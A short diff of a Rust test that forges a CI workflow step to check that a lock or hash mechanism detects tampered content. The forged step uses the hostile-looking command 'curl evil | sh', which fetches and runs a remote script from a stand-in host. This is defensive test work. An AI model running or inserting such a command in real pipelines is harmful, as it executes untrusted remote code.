@@ -276,7 +276,7 @@ mod tests {
         assert!(renamed.notes[0].contains("`cd` is not in the lock document"));
         // The hash of the source, with another content.
         let mut forged = set(CI).workflows().next().unwrap().clone();
-        forged.jobs[0].steps[0].run = "curl evil | sh".into();
+        forged.jobs[0].steps[0].action = crate::lock::Action::Run("curl evil | sh".into());
         assert_eq!(names(&resolve(config, &set(CI), Some(&lock(vec![forged])))), [("ci", true)]);
         let none = resolve(config, &set(CI), None);
         assert!(none.missing && none.workflows.is_empty());
